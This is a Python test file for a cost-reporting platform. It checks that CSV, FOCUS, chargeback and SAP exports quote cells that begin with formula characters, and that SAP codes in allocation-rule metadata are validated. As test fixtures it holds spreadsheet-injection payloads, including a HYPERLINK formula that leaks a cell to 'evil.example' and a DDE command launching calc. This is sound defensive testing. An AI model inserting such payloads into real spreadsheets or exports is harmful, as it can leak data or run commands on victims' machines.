"""Spreadsheet formula injection: team, user, model and provider ids come from clients, so every CSV-ish export
(cost CSV, FOCUS, chargeback CSV, SAP FI and CO) writes a text cell that begins with = + - @ tab or CR with a
leading single quote (OWASP's rule); numbers stay numbers and the JSON exports are unchanged. SAP codes in an
allocation rule's metadata are validated when the rule is written."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest

from models.db import Database
from resolvers.platform.spreadsheet import neutralise
from tests.conftest import NOW
from tests.support import Api, SpendLog, add_spend

pytestmark = pytest.mark.litellm_tables

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SUM = "@SUM(1+1)"
CMD = "+cmd|' /C calc'!A0"
TABBED = "\t=1+1"
FORMULAS = (HYPERLINK, SUM, CMD, TABBED, "-2+3", "\r=1")

COST_EXPORT = """query($format: CostExportFormat!) {
  exportCostReport(format: $format, period: MONTHLY) { content } }"""
CREATE_RULE = "mutation($input: AllocationRuleInput!) { createAllocationRule(input: $input) { id } }"
GENERATE = "mutation($p: String!) { generateChargebackReport(period: $p) { id } }"
FINALIZE = "mutation($id: ID!) { finalizeChargebackReport(id: $id) { id } }"
EXPORT = """mutation($id: ID!, $format: ChargebackExportFormat!, $layout: SapLayout! = FI_JOURNAL) {
  exportChargebackReport(id: $id, format: $format, sapLayout: $layout) { content } }"""
OCTOBER = datetime(2026, 10, 12, 9, 0, tzinfo=UTC)


def cells(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content)))


def formula_cells(content: str) -> list[str]:
    """Every cell a spreadsheet would evaluate: text starting with a formula character that is not a number."""
    return [c for row in cells(content) for c in row if c[:1] in "=+-@\t\r" and neutralise(c) != c]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        (SUM, "'" + SUM),
        (CMD, "'" + CMD),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1e-9", "-1e-9"),
        ("-.5", "-.5"),
        ("0000620000", "0000620000"),
        ("CC-1234", "CC-1234"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_one_neutraliser_quotes_formulas_and_leaves_numbers(cell: str, written: str) -> None:
    assert neutralise(cell) == written


async def test_the_cost_csv_and_focus_exports_carry_no_formula_and_json_is_unchanged(api: Api, db: Database) -> None:
    await add_spend(
        db,
        SpendLog(1.5, NOW, team_id=HYPERLINK, user=SUM, model=CMD),
        SpendLog(2, NOW, team_id=TABBED, user="-2+3", model="gpt-4o"),
    )
    content = (await api.data(COST_EXPORT, {"format": "CSV"}))["exportCostReport"]["content"]
    assert formula_cells(content) == []
    rows = list(csv.DictReader(io.StringIO(content)))
    assert {r["team_id"] for r in rows} == {"'" + HYPERLINK, "'" + TABBED}
    assert {r["user_id"] for r in rows} == {"'" + SUM, "'-2+3"}
    assert {r["model"] for r in rows} == {"'" + CMD, "gpt-4o"}
    assert sorted(r["cost_usd"] for r in rows) == ["1.5", "2"]  # numbers untouched

    rest = await api.client.get(
        "/api/v1/reports/export", params={"format": "csv", "period": "monthly"}, headers=api.bearer()
    )
    assert rest.status_code == 200 and formula_cells(rest.text) == []

    focus = (await api.data(COST_EXPORT, {"format": "FOCUS"}))["exportCostReport"]["content"]
    assert formula_cells(focus) == []
    described = {r["ResourceName"]: r for r in csv.DictReader(io.StringIO(focus))}
    assert set(described) == {"'" + CMD, "gpt-4o"}
    assert described["'" + CMD]["ChargeDescription"].startswith("'" + CMD)

    raw = json.loads((await api.data(COST_EXPORT, {"format": "JSON"}))["exportCostReport"]["content"])
    assert {r["team_id"] for r in raw["rows"]} == {HYPERLINK, TABBED}  # JSON is data, never quoted
    assert {r["model"] for r in raw["rows"]} == {CMD, "gpt-4o"}


async def test_chargeback_csv_and_both_sap_files_carry_no_formula(api: Api, db: Database) -> None:
    await add_spend(db, SpendLog(10, OCTOBER, team_id=SUM), SpendLog(4, OCTOBER, team_id=HYPERLINK))
    rule: dict[str, Any] = {"teamId": SUM, "allocationType": "COST_CENTER", "allocationTarget": "=1+1", "name": CMD}
    await api.data(CREATE_RULE, {"input": rule})
    report = (await api.data(GENERATE, {"p": "2026-10"}))["generateChargebackReport"]
    await api.data(FINALIZE, {"id": report["id"]})

    chargeback = (await api.data(EXPORT, {"id": report["id"], "format": "CSV"}))["exportChargebackReport"]["content"]
    assert formula_cells(chargeback) == []
    lines = list(csv.DictReader(io.StringIO(chargeback)))
    assert {r["team_id"] for r in lines} == {"'" + SUM, "'" + HYPERLINK}
    assert "'=1+1" in {r["allocation_target"] for r in lines} and "'" + CMD in {r["rule_name"] for r in lines}
    assert all(not r["cost_usd"].startswith("'") for r in lines)

    fi = (await api.data(EXPORT, {"id": report["id"], "format": "SAP"}))["exportChargebackReport"]["content"]
    assert formula_cells(fi) == []
    rows = list(csv.DictReader(io.StringIO(fi)))
    assert "'=1+1" in {r["KOSTL"] for r in rows} and "'" + SUM in {r[list(r)[-1]] for r in rows}
    assert {r["WRBTR"] for r in rows} == {"10.00"}

    co = (await api.data(EXPORT, {"id": report["id"], "format": "SAP", "layout": "CO_REPOSTING"}))[
        "exportChargebackReport"
    ]["content"]
    assert formula_cells(co) == []
    assert [r["REC_KOSTL"] for r in csv.DictReader(io.StringIO(co))] == ["'=1+1"]

    download = await api.client.get(
        f"/api/v1/chargeback/reports/{report['id']}/export", params={"format": "csv"}, headers=api.bearer()
    )
    assert download.status_code == 200 and formula_cells(download.text) == []
    as_json = await api.client.get(
        f"/api/v1/chargeback/reports/{report['id']}/export", params={"format": "json"}, headers=api.bearer()
    )
    assert SUM in {line["team_id"] for line in as_json.json()["lines"]}  # JSON unchanged


@pytest.mark.parametrize(
    "metadata",
    [
        {"gl_account": "=1+1"},
        {"company_code": "@SUM(1)"},
        {"cost_element": "+62"},
        {"sap_cost_center": "-4711"},
        {"sap_cost_center": "47 11"},
        {"gl_account": "0000620000\x00"},
        {"company_code": "10\r\n00"},
        {"note": "fine text but a NUL\x00"},
        {"nested": {"deep": ["ok", "bell\x07"]}},
    ],
)
async def test_sap_codes_in_rule_metadata_are_validated_on_both_faces(api: Api, metadata: dict[str, Any]) -> None:
    rule = {"teamId": "eng", "allocationType": "COST_CENTER", "allocationTarget": "CC-1", "metadata": metadata}
    error = await api.error(CREATE_RULE, {"input": rule})
    assert error["extensions"] == {"code": "BAD_USER_INPUT", "field": "metadata"}
    body = {"team_id": "eng", "allocation_type": "cost_center", "allocation_target": "CC-1", "metadata": metadata}
    response = await api.client.post("/api/v1/cost-allocation/rules", json=body, headers=api.bearer())
    assert (response.status_code, response.json()["error"]["field"]) == (400, "metadata")


async def test_good_sap_codes_and_the_guides_example_are_accepted(api: Api) -> None:
    for n, metadata in enumerate(
        (
            {"gl_account": "0000620000", "sap_cost_center": "0000004711", "company_code": "0100"},
            {"gl_account": "6200-AI-SERVICES"},  # the guide's example (its length is checked by the SAP export)
            {"sap_wbs_element": "P-1234.01/A_2"},
        )
    ):
        rule = {"teamId": f"team-{n}", "allocationType": "PROJECT", "allocationTarget": "P", "metadata": metadata}
        await api.data(CREATE_RULE, {"input": rule})
